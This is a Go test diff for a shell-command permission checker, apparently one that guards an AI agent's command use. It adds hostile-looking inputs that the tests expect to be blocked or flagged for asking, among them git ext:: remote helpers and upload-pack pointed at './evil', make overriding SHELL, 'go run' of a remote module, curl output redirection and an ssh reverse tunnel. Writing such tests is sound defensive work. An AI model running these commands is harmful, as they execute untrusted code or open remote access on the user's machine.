@@ -245,6 +245,15 @@ awk -W exec x
 gawk -i x 1 a
 gawk -o out 1 a
 date -s x
+git --bare status
+git config branch.main.remote ext::./evil
+git config branch.main.mergeoptions '-s evil'
+curl -w '%output{out}x' y
+curl -sw '%{onerror}%output{out}x' y
+make 'override SHELL=./evil'
+go run example.com/evil@latest
+find . -execdir git status \;
+ssh -R 1:h:2 h
 \time -o out git status
 `
 
@@ -326,6 +335,11 @@ func TestBash_EmbeddedRepository(t *testing.T) {
 		"cd vendored && git status":         "allow",
 		"cd plain && git status":            "allow",
 		"git -C plain status":               "allow",
+		"env -C docs/evil git status":       "ask",
+		"env --chd=docs/evil git status":    "ask",
+		"env --chdir docs/evil git status":  "ask",
+		"env -C plain git status":           "allow",
+		"find . -execdir git status \\;":    "ask",
 		"git status":                        "allow",
 		"pushd docs/evil; popd; git status": "ask",
 	} {
@@ -355,5 +369,21 @@ func TestBash_WildcardOptions(t *testing.T) {
 	}
 	if got := verdict(x, "cd sub && grep x *", rules); got != "allow" {
 		t.Errorf("grep has no such option: %s", got)
+	}
+}
+
+// A rule that begins with a wildcard means commands, not what stands beside them.
+func TestBash_WildcardRules(t *testing.T) {
+	x := ruleRoom(t)
+	for line, want := range map[string]string{
+		"git log":                    "allow",
+		"git fetch --upl=./evil git": "ask",
+		"git log --textconv":         "ask",
+		"git log > git":              "ask",
+		"PATH=/git git log":          "ask",
+	} {
+		if got := verdict(x, line, onlyAllowing("*git*")); got != want {
+			t.Errorf("%s: %s, want %s", line, got, want)
+		}
 	}
 }
